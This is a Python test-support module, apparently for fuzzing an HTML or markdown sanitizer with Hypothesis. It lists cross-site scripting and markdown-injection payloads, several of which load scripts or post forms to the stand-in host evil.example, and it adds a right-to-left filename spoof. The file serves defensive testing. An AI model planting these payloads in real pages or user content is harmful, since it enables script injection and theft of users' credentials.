"""What a hostile hand writes where words are expected."""

from __future__ import annotations

from hypothesis import strategies as st

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" style="position:fixed">x</p>',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x' onmouseover=alert(1)>x</a>",
    "<form action=//evil.example><input type=password autofocus onfocus=alert(1)>",
    "<base href=//evil.example/><link rel=stylesheet href=x><meta http-equiv=refresh>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "</article></main><h1>Ours now</h1>",
    "<style>*{display:none}</style><p class='post' id='post-7'>x</p>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](JAVASCRIPT&colon;alert%281%29)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "<javascript:alert(1)>",
    "[x](https://a.example \"' onmouseover=alert(1) x='\")",
    '[x](https://a.example"onmouseover=alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "|<script>|x|\n|-|-|\n|<img src=x onerror=alert(1)>|&lt;b&gt;|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "x&#0;&#1;&#12;&#xD800;&#xFFFF;\0\x1b[31m\ufffe",
    "\u202egnp.exe",
    "half \ud83d of a pair",
]

_PIECES = [
    *ATTACKS,
    *"<>&'\"`*_~[]()#|-\\!\n\r\t\0",
    *("<!--", "-->", "<p>", "</p>", "<a href=", "<b", "\n\n", "> ", "- ", "1. "),
    *("|a|b|\n|-|-|\n", "&#", "&amp;", ";", "\u2028", "\x0c", "word", " "),
]

anything = st.text(st.characters(exclude_categories=()))
"""Any text at all, with half surrogates, controls and what is never a character."""

fragments = st.lists(st.sampled_from(_PIECES) | anything, max_size=12).map("".join)
"""Pieces of markup and of anything, in any order."""
